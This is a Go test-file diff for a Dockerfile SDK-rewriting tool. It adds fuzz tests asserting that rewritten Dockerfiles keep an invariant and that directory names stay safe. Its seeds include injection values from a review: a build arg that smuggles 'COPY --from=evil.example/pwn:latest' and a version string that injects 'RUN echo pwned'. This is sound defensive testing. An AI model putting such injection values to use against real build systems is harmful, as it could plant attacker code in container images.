@@ -3,13 +3,12 @@ package dockerfile
 import (
 	"bytes"
 	"path"
-	"slices"
+	"regexp"
 	"strings"
 	"testing"
 
-	"github.com/moby/buildkit/frontend/dockerfile/instructions"
 	"github.com/moby/buildkit/frontend/dockerfile/parser"
-	"github.com/moby/buildkit/frontend/dockerfile/shell"
+	"github.com/pkg/errors"
 
 	"github.com/sdkfront/sdkfront/resolver"
 )
@@ -21,8 +20,10 @@ import (
 
 var fuzzArgs = map[string]string{"GO_VERSION": "1.23", "DIR": "/opt/go"}
 
-// checkFile scans f strictly and leniently and, if the strict scan
-// succeeds, rewrites it and checks the rewrite.
+// checkFile scans f strictly and leniently; if the strict scan succeeds,
+// it rewrites it bound as a build binds it, and the lenient scan bound
+// with placeholders as a check request does, and checks each rewrite
+// (checkRewrite).
 func checkFile(t *testing.T, f *File) {
 	t.Helper()
 	opts := ScanOpts{BuildArgs: fuzzArgs, Build: amd64, Target: arm64}
@@ -32,6 +33,7 @@ func checkFile(t *testing.T, f *File) {
 	if err != nil {
 		t.Fatalf("lenient scan failed: %v", err)
 	}
+	checkPlaceholders(t, f, ls)
 	sr, err := f.Scan(opts)
 	if err != nil {
 		if len(ls.Errors) == 0 {
@@ -55,65 +57,45 @@ func checkFile(t *testing.T, f *File) {
 				t.Fatalf("use on line %d: reference %q does not parse: %v", u.Line(), u.RefText, err)
 			}
 		}
-		if u.Mount && u.Dest == "" || u.Dest != "" && !path.IsAbs(u.Dest) {
-			t.Fatalf("use on line %d: directory %q", u.Line(), u.Dest)
+		if u.Mount && u.Dest.IsZero() {
+			t.Fatalf("mount on line %d has no target", u.Line())
 		}
-		u.VarRefs()
 	}
-	rw, err := f.Rewrite(sr.Uses, fakeBind)
-	if err != nil || f.ParseErr != nil {
+	bind := func(u *Use) Binding {
+		b, err := Bind(u, u.Ref.Platform, "1.23.4", "the fuzzer")
+		if err != nil {
+			t.Fatalf("binding %s to 1.23.4: %v", u.RefText, err)
+		}
+		return b
+	}
+	rw, err := f.Rewrite(sr.Uses, bind)
+	if err != nil {
+		if !splitFlag(err) {
+			t.Fatalf("a scanned Dockerfile does not rewrite: %v", err)
+		}
 		return
 	}
-	res, err := parser.Parse(bytes.NewReader(rw.Data))
+	checkRewrite(t, f, sr.Uses, bind, rw)
+}
+
+// checkPlaceholders rewrites a lenient scan as a check request does, and
+// checks the rewrite.
+func checkPlaceholders(t *testing.T, f *File, ls *Scan) {
+	t.Helper()
+	rw, err := f.Rewrite(ls.Uses, Placeholder)
 	if err != nil {
-		t.Fatalf("rewrite does not parse: %v\n%s", err, rw.Data)
+		if !splitFlag(err) {
+			t.Fatalf("placeholder rewrite: %v", err)
+		}
+		return
 	}
-	for l := 1; l <= len(rw.Lines); l++ {
-		if ul := rw.UserLine(l); ul < 1 || ul > bytes.Count(f.Data, []byte("\n"))+1 {
-			t.Fatalf("rewritten line %d maps to line %d of a %d-line file", l, ul, bytes.Count(f.Data, []byte("\n"))+1)
-		}
-	}
-	// The generated instructions parse, and the PATH they set starts with
-	// the SDK's directory.
-	for _, n := range res.AST.Children {
-		orig := strings.TrimSpace(n.Original)
-		generated := strings.HasPrefix(orig, "COPY --from=sdkfront-") || strings.HasPrefix(orig, `ENV PATH="`) ||
-			strings.Contains(orig, "--mount=type=bind,from=sdkfront-")
-		if !generated {
-			continue
-		}
-		if strings.HasPrefix(strings.ToLower(n.Value), "run") {
-			// The user's own flags must be valid for the RUN to parse:
-			// check the generated mounts only where they are.
-			own := *n
-			own.Flags = slices.DeleteFunc(slices.Clone(n.Flags), func(fl string) bool {
-				return strings.HasPrefix(fl, "--mount=type=bind,from=sdkfront-")
-			})
-			if _, err := instructions.ParseInstructionWithLinter(&own, quiet()); err != nil {
-				continue
-			}
-		}
-		cmd, err := instructions.ParseInstructionWithLinter(n, quiet())
-		if err != nil {
-			t.Fatalf("generated instruction %q does not parse: %v\n%s", orig, err, rw.Data)
-		}
-		if env, ok := cmd.(*instructions.EnvCommand); ok {
-			// As BuildKit's dispatcher expands it, with no PATH set.
-			v, _, err := shell.NewLex(res.EscapeToken).ProcessWord(env.Env[0].Value, shell.EnvsFromSlice(nil))
-			if err != nil {
-				t.Fatalf("generated %q does not expand: %v", orig, err)
-			}
-			ok := false
-			for _, u := range sr.Uses {
-				if b := fakeBind(u); !u.Mount && strings.HasPrefix(v, b.Dest+"/bin:") {
-					ok = true
-				}
-			}
-			if env.Env[0].Key != "PATH" || !ok {
-				t.Fatalf("generated %q sets %s=%q, not an SDK's bin first", orig, env.Env[0].Key, v)
-			}
-		}
-	}
+	checkRewrite(t, f, ls.Uses, Placeholder, rw)
+}
+
+// splitFlag reports whether err is the one error a rewrite of scanned uses
+// may have: an sdk mount flag that does not stand on one line.
+func splitFlag(err error) bool {
+	return strings.Contains(err.Error(), "keep each --mount=type=sdk flag on a single line")
 }
 
 // FuzzRead reads arbitrary bytes as a Dockerfile.
@@ -184,4 +166,139 @@ func FuzzVersionFile(f *testing.F) {
 			}
 		}
 	})
+}
+
+// fuzzChars are the characters every field of the invariant's seeds is
+// tried with: the C0 controls, DEL, the unicode line and space separators
+// a parser may split at, and what would end a quote, a CSV field or a
+// word, or be expanded again.
+func fuzzChars() []string {
+	var cs []string
+	for c := rune(0); c < 0x20; c++ {
+		cs = append(cs, string(c))
+	}
+	return append(cs, "\x7f", "\u0085", "\u2028", "\u00a0", " ", `"`, "'", ",", "$", `\`, "`", "=", "\xff")
+}
+
+// invariantSeed is one way a value reaches an SDK line: a Dockerfile, the
+// build arg X (if any) set to the value, or the value as the registry's
+// version or a version file's content.
+type invariantSeed struct {
+	df   string
+	arg  bool   // X=<value>
+	how  string // "version" or "file": the value is that, not X
+	pre  string // before the character
+	post string // after it
+}
+
+var invariantSeeds = []invariantSeed{
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${X} go version\n", arg: true, pre: "/sdk", post: "true"},
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/go,source=${X} true\n", arg: true, pre: "bin", post: "x"},
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/go,flavor=${X} true\n", arg: true, pre: "book", post: "worm"},
+	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@${X},target=/go true\n", arg: true, pre: "1.23", post: ""},
+	{df: "FROM a\nARG X\nSDK golang@1.23 --to=${X}\nRUN go version\n", arg: true, pre: "/go", post: "x"},
+	{df: "FROM a\nARG X\nSDK golang@1.23 --flavor=${X}\n", arg: true, pre: "book", post: "worm"},
+	{df: "FROM a\nARG X\nSDK golang@${X}\n", arg: true, pre: "1.23", post: ""},
+	{df: "FROM a\nSDK golang@1.23\nRUN go version\n", how: "version", pre: "1.23.4", post: "x"},
+	{df: "FROM a\nSDK python@file:.python-version\n", how: "file", pre: "3.11", post: "9"},
+}
+
+// FuzzRewriteInvariant: for any Dockerfile, build args (NAME=value pairs
+// separated by NUL), version the registry or lockfile answers, and version
+// file content, either scanning, binding or rewriting fails, or the
+// rewrite keeps the invariant (checkRewrite), and the directory of an SDK
+// without --to= is /opt/<platform>/<version> exactly.
+func FuzzRewriteInvariant(f *testing.F) {
+	// The two reproductions of the review.
+	f.Add("FROM a\nARG DIR\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${DIR} go version\n",
+		"DIR=/sdk\vtrue\nCOPY\v--from=evil.example/pwn:latest\v/\v/\nRUN", "1.23.4", "")
+	f.Add("FROM a\nSDK golang@1.23\nRUN go version\n", "", "1.23.2\"\nRUN echo pwned > /pwned\nENV Z=\"", "")
+	for _, s := range invariantSeeds {
+		for _, c := range fuzzChars() {
+			v := s.pre + c + s.post
+			args, version, file := "", "1.23.4", "3.11.9"
+			switch {
+			case s.arg:
+				args = "X=" + v
+			case s.how == "version":
+				version = v
+			case s.how == "file":
+				file = v
+			}
+			f.Add(s.df, args, version, file)
+		}
+	}
+	// The characters written into the Dockerfile itself.
+	for _, c := range fuzzChars() {
+		f.Add("FROM a\nSDK golang@1.23 --to=/a"+c+"b\n", "", "1.23.4", "")
+		f.Add("FROM a\nRUN --mount=type=sdk,ref=golang@1.23,target=/a"+c+"b,source=s"+c+"t true\n", "", "1.23.4", "")
+	}
+	f.Fuzz(func(t *testing.T, df, args, version, file string) {
+		checkInvariant(t, df, args, version, file)
+	})
+}
+
+// checkInvariant is FuzzRewriteInvariant's property.
+func checkInvariant(t *testing.T, df, args, version, file string) {
+	t.Helper()
+	dockerfile, err := Read([]byte(df))
+	if err != nil {
+		return
+	}
+	build := map[string]string{}
+	for _, kv := range strings.Split(args, "\x00") {
+		if k, v, ok := strings.Cut(kv, "="); ok {
+			build[k] = v
+		}
+	}
+	opts := ScanOpts{BuildArgs: build, Build: amd64, Target: arm64}
+	lenient := opts
+	lenient.Lenient = true
+	ls, err := dockerfile.Scan(lenient)
+	if err != nil {
+		t.Fatalf("lenient scan: %v", err)
+	}
+	checkPlaceholders(t, dockerfile, ls)
+
+	sr, err := dockerfile.Scan(opts)
+	if err != nil {
+		return
+	}
+	bound := map[*Use]Binding{}
+	for _, u := range sr.Uses {
+		if u.VersionFile != nil {
+			if err := u.SetConstraint(file); err != nil {
+				return
+			}
+		}
+		b, err := Bind(u, u.Ref.Platform, version, "the fuzzer")
+		if safe := safeDirName(u.Ref.Platform) && safeDirName(version); u.Dest.IsZero() && (err == nil) != safe {
+			t.Fatalf("Bind(%q, %q) = %v, but the directory name is safe: %v", u.Ref.Platform, version, err, safe)
+		}
+		if err != nil {
+			var le *parser.LocationError
+			if !errors.As(err, &le) || len(le.Locations) == 0 || le.Locations[0][0].Start.Line != u.Line() {
+				t.Fatalf("Bind error %v is not at line %d", err, u.Line())
+			}
+			return
+		}
+		if u.Dest.IsZero() && b.Dest.String() != "/opt/"+u.Ref.Platform+"/"+version {
+			t.Fatalf("default directory %q for %s and version %q", b.Dest, u.Ref.Platform, version)
+		}
+		bound[u] = b
+	}
+	bind := func(u *Use) Binding { return bound[u] }
+	rw, err := dockerfile.Rewrite(sr.Uses, bind)
+	if err != nil {
+		if !splitFlag(err) {
+			t.Fatalf("rewrite of bound uses: %v", err)
+		}
+		return
+	}
+	checkRewrite(t, dockerfile, sr.Uses, bind, rw)
+}
+
+// safeDirName is the test's own statement of what may name a directory.
+func safeDirName(s string) bool {
+	return regexp.MustCompile(`^[A-Za-z0-9._+@~-]+$`).MatchString(s) && s != "." && s != ".."
 }
